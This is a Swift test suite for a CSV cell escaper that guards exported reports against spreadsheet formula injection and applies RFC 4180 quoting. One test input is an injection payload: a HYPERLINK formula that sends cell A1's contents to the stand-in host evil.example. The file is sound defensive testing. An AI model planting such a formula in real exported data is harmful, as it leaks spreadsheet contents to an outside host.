import Eldercare
import FederationNode
import Testing

/// `CSVField`: the cells `fedctl report --format csv` writes, neutralised against formula injection
/// (OWASP) and quoted (RFC 4180).
@Suite(.timeLimit(.minutes(10))) struct CSVFieldTests {
    @Test(arguments: [
        (#"=HYPERLINK("http://evil.example/?d="&A1,"点此")"#, #""'=HYPERLINK(""http://evil.example/?d=""&A1,""点此"")""#),
        ("=1+1", "'=1+1"),
        ("+86 311 8601", "'+86 311 8601"),
        ("-2+3", "'-2+3"),
        ("-", "'-"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "\"'\r=1+1\""),
        ("\n=1+1", "\"'\n=1+1\""),
        ("\0=1", "'\0=1"),
        ("--1", "'--1"),
        ("-1-1", "'-1-1"),
        ("-.5", "'-.5"),
        ("-5.", "'-5."),
        ("-1e3", "'-1e3"),
    ])
    func textThatStartsLikeAFormulaGetsASingleQuote(_ cell: String, _ written: String) {
        #expect(CSVField.escape(cell) == written)
    }

    @Test(arguments: ["-5000", "-12.5", "-3.0%", "0", "42", "99.97%", "1234567.89", "-0.0"])
    func plainNumbersStayNumbers(_ cell: String) {
        #expect(CSVField.isPlainNumber(cell))
        #expect(CSVField.escape(cell) == cell)
    }

    @Test func otherCellsAreQuotedOnlyWhenRFC4180AsksForIt() {
        #expect(CSVField.escape("长安区颐康居家养老服务中心") == "长安区颐康居家养老服务中心")
        #expect(CSVField.escape("颐康, 长安区") == "\"颐康, 长安区\"")
        #expect(CSVField.escape(#"他说"好""#) == #""他说""好""""#)
        #expect(CSVField.escape("a\r\nb") == "\"a\r\nb\"")
        #expect(CSVField.escape("") == "")
        #expect(CSVField.escape("12/15") == "12/15")  // reported/expected
        #expect(CSVField.escape("a=b") == "a=b")  // only the first character counts
    }

    /// Whatever the text, the written cell never starts with a formula trigger unless it is a plain number.
    @Test func noEscapedCellStartsLikeAFormula() {
        var generator = SystemRandomNumberGenerator()
        let alphabet = Array("=+-@\t\r\n\0\"',.0123456789%eE王a ")
        for _ in 0..<5_000 {
            let cell = String(
                (0..<Int.random(in: 0...6, using: &generator)).map { _ in alphabet.randomElement(using: &generator)! })
            var written = CSVField.escape(cell)
            if written.hasPrefix("\"") { written = String(written.dropFirst()) }
            guard let first = written.first else { continue }
            #expect(
                !CSVField.formulaTriggers.contains(first) || CSVField.isPlainNumber(cell), "\(cell.debugDescription)")
        }
    }
}
